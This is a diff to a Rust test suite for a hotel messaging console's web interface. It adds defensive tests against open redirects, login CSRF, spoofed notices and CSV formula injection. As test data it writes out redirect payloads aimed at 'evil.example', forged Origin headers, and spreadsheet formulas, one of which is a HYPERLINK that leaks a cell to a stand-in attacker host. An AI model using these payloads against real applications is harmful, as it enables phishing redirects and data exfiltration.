@@ -12,7 +12,9 @@ use crate::common::*;
 
 backend_tests!(
     sign_in_filters_paging_and_hotel_scope,
-    flag_queue_workflow_with_csrf
+    flag_queue_workflow_with_csrf,
+    sign_in_stays_on_the_console_and_needs_its_own_form,
+    csv_neutralises_formulas_and_masks_like_the_page,
 );
 
 /// A cookie-keeping HTTP client that does not follow redirects (tests look at them).
@@ -109,7 +111,31 @@ impl Browser {
         self.send(r).await
     }
 
+    /// Signs in as a person would: the sign-in page, then its form.
+    async fn sign_in(&mut self, token: &str, next: &str) -> Page {
+        let query = form_urlencoded::Serializer::new(String::new())
+            .append_pair("next", next)
+            .finish();
+        let form = self.get(&format!("/signin?{query}")).await;
+        assert_eq!(form.status, StatusCode::OK);
+        let csrf = form.csrf();
+        self.post(
+            "/signin",
+            &[("token", token), ("next", next), ("csrf", &csrf)],
+        )
+        .await
+    }
+
     async fn post(&mut self, path: &str, form: &[(&str, &str)]) -> Page {
+        self.post_with(path, form, &[]).await
+    }
+
+    async fn post_with(
+        &mut self,
+        path: &str,
+        form: &[(&str, &str)],
+        headers: &[(&str, &str)],
+    ) -> Page {
         let body = form_urlencoded::Serializer::new(String::new())
             .extend_pairs(form)
             .finish();
@@ -118,6 +144,7 @@ impl Browser {
             .post(format!("{}{path}", self.base))
             .header("content-type", "application/x-www-form-urlencoded")
             .body(body);
+        let r = headers.iter().fold(r, |r, (k, v)| r.header(*k, *v));
         self.send(r).await
     }
 }
@@ -189,17 +216,18 @@ async fn sign_in_filters_paging_and_hotel_scope(db: TestDb) {
     let page = browser.get("/messages?channel=SMS").await;
     assert_eq!(page.status, StatusCode::SEE_OTHER);
     assert_eq!(page.location, "/signin?next=%2Fmessages%3Fchannel%3DSMS");
-    let refused = browser.post("/signin", &[("token", "nope")]).await;
+    let refused = browser.sign_in("nope", "/messages").await;
     assert_eq!(refused.status, StatusCode::UNAUTHORIZED);
-    let ingest = browser.post("/signin", &[("token", "tok-ingest")]).await;
+    let ingest = browser.sign_in("tok-ingest", "/messages").await;
     assert_eq!(ingest.status, StatusCode::UNAUTHORIZED);
     assert!(ingest.body.contains("for services"));
-    assert!(browser.cookie.is_none());
+    assert_eq!(
+        browser.get("/messages").await.status,
+        StatusCode::SEE_OTHER,
+        "a refused token opens no session"
+    );
     let signed_in = browser
-        .post(
-            "/signin",
-            &[("token", "tok-agent-h1"), ("next", "/messages?channel=SMS")],
-        )
+        .sign_in("tok-agent-h1", "/messages?channel=SMS")
         .await;
     assert_eq!(signed_in.status, StatusCode::SEE_OTHER);
     assert_eq!(signed_in.location, "/messages?channel=SMS");
@@ -208,12 +236,7 @@ async fn sign_in_filters_paging_and_hotel_scope(db: TestDb) {
         !cookie.contains("tok-agent-h1"),
         "the cookie holds no token"
     );
-    let offsite = browser
-        .post(
-            "/signin",
-            &[("token", "tok-agent-h1"), ("next", "//evil.example")],
-        )
-        .await;
+    let offsite = browser.sign_in("tok-agent-h1", "//evil.example").await;
     assert_eq!(
         offsite.location, "/messages",
         "never redirects off the console"
@@ -367,6 +390,17 @@ async fn flag_queue_workflow_with_csrf(db: TestDb) {
     assert!(ran.location.starts_with("/flags?done="), "{}", ran.location);
     let queue = browser.get(&ran.location).await;
     assert!(queue.body.contains("1 flags raised"));
+    // The banner says only what the server issued, to this session.
+    let spoofed = browser
+        .get("/flags?done=Your+account+is+locked%2C+call+%2B33+1+23+45+67+89")
+        .await;
+    assert!(!spoofed.body.contains("account is locked"));
+    assert!(!spoofed.body.contains("<p class=\"ok\""));
+    let replayed = stranger.get(&ran.location).await;
+    assert!(
+        !replayed.body.contains("flags raised"),
+        "another session's notice"
+    );
     assert!(queue.body.contains("phone mismatch"));
     assert!(
         queue.body.contains("+33612345687"),
@@ -401,6 +435,17 @@ async fn flag_queue_workflow_with_csrf(db: TestDb) {
         )
         .await;
     assert_eq!(ack.status, StatusCode::SEE_OTHER);
+    // No guest's name in a URL: the notice names the flag.
+    assert!(!ack.location.contains("Camille"), "{}", ack.location);
+    assert!(!ack.location.contains("Martin"), "{}", ack.location);
+    let after = browser.get(&ack.location).await;
+    assert!(
+        after
+            .body
+            .contains(&format!("Flag {flag_id} is now acknowledged.")),
+        "{}",
+        after.body
+    );
     let bad_phone = browser
         .post(
             &path,
@@ -442,5 +487,134 @@ async fn flag_queue_workflow_with_csrf(db: TestDb) {
         .into_inner();
     assert_eq!(flag.corrected_phone, "+33612345687");
     assert_eq!(flag.note, "calling the guest");
+    server.stop().await;
+}
+
+/// The attack run's console findings: the open redirect, login CSRF, a control
+/// character in `next`, and dates before 1970.
+async fn sign_in_stays_on_the_console_and_needs_its_own_form(db: TestDb) {
+    let server = TestServer::start_with(db, with_tokens).await;
+    let mut browser = Browser::new(&server);
+    for next in [
+        "/\t/evil.example/",
+        "/\n/evil.example/",
+        "//evil.example",
+        "/\\evil.example",
+        "\t//evil.example",
+        "https://evil.example/",
+        "/messages\u{1}",
+        "/caf\u{e9}",
+    ] {
+        let page = browser.sign_in("tok-agent-h1", next).await;
+        assert_eq!(page.status, StatusCode::SEE_OTHER, "{next:?}");
+        assert_eq!(page.location, "/messages", "{next:?}");
+    }
+    // The sign-in page itself never echoes an unsafe `next` into its form.
+    let form = browser.get("/signin?next=%2F%09%2Fevil.example%2F").await;
+    assert!(form.body.contains("name=\"next\" value=\"/messages\""));
+
+    // Login CSRF: a sign-in posted by another site, or without this console's form.
+    let mut victim = Browser::new(&server);
+    let no_form = victim
+        .post("/signin", &[("token", "tok-agent-h1"), ("next", "/flags")])
+        .await;
+    assert_eq!(no_form.status, StatusCode::FORBIDDEN);
+    assert!(no_form.body.contains("did not come from this console"));
+    assert_eq!(
+        victim.get("/messages").await.status,
+        StatusCode::SEE_OTHER,
+        "no session was opened"
+    );
+    let csrf = victim.get("/signin").await.csrf();
+    let form = [
+        ("token", "tok-agent-h1"),
+        ("next", "/messages"),
+        ("csrf", csrf.as_str()),
+    ];
+    for headers in [
+        [("origin", "http://evil.example")],
+        [("sec-fetch-site", "cross-site")],
+        [("origin", "null")],
+    ] {
+        let page = victim.post_with("/signin", &form, &headers).await;
+        assert_eq!(page.status, StatusCode::FORBIDDEN, "{headers:?}");
+    }
+    let own_origin = browser.base.clone();
+    let page = victim
+        .post_with(
+            "/signin",
+            &form,
+            &[("origin", &own_origin), ("sec-fetch-site", "same-origin")],
+        )
+        .await;
+    assert_eq!(page.status, StatusCode::SEE_OTHER);
+    assert_eq!(page.location, "/messages");
+    assert_eq!(victim.get("/messages").await.status, StatusCode::OK);
+
+    // Dates take the years timestamps take.
+    let early = victim.get("/messages?check_in_from=0000-01-01").await;
+    assert_eq!(early.status, StatusCode::BAD_REQUEST);
+    assert!(early.body.contains("check_in_from"), "{}", early.body);
+    server.stop().await;
+}
+
+/// Cells that a spreadsheet would run as formulas open as text, and an agent's CSV
+/// masks phones as the page does.
+async fn csv_neutralises_formulas_and_masks_like_the_page(db: TestDb) {
+    let server = TestServer::start_with(db, with_tokens).await;
+    let seeder = server
+        .another_instance(|s| s.console_listen = "off".into())
+        .await;
+    let mut m = new_message("h1", "evil", "+33 6 12 34 56 78");
+    m.guest_name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")".into();
+    m.campaign_id = "@SUM(1+1)".into();
+    m.campaign_name = "-2+3".into();
+    m.template_name = "\t=cmd".into();
+    record(&mut seeder.messages(), vec![m]).await;
+    let early = seeder
+        .messages()
+        .record_messages(proto::RecordMessagesRequest {
+            messages: vec![proto::NewMessage {
+                check_in_date: "0000-01-01".into(),
+                ..new_message("h1", "e-early", "+33612345678")
+            }],
+        })
+        .await
+        .unwrap()
+        .into_inner();
+    assert!(
+        early.results[0].error.contains("check_in_date"),
+        "{:?}",
+        early.results[0]
+    );
+
+    let mut agent = Browser::new(&server);
+    agent.sign_in("tok-agent-h1", "/messages").await;
+    let page = agent.get("/messages").await;
+    assert!(page.body.contains("+33*******78"), "the page masks");
+    let csv = agent.get("/messages.csv").await;
+    assert_eq!(csv.status, StatusCode::OK);
+    let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_string();
+    assert_eq!(cell("recipient_phone"), "'+33*******78", "masked, as text");
+    assert!(!csv.body.contains("+33612345678"), "no whole phone");
+    assert_eq!(
+        cell("guest_name"),
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    );
+    assert_eq!(cell("campaign_id"), "'@SUM(1+1)");
+    assert_eq!(cell("campaign_name"), "'-2+3");
+    // Recorded text is trimmed, so the tab is gone; the formula is not.
+    assert_eq!(cell("template_name"), "'=cmd");
+    assert_eq!(cell("hotel_id"), "h1", "ordinary cells unchanged");
+
+    // A CSM, who corrects numbers, gets them whole (still as text).
+    let mut csm = Browser::new(&server);
+    csm.sign_in("tok-csm-h1", "/messages").await;
+    let csv = csm.get("/messages.csv").await;
+    assert!(csv.body.contains("'+33612345678"), "{}", csv.body);
+    seeder.stop().await;
     server.stop().await;
 }
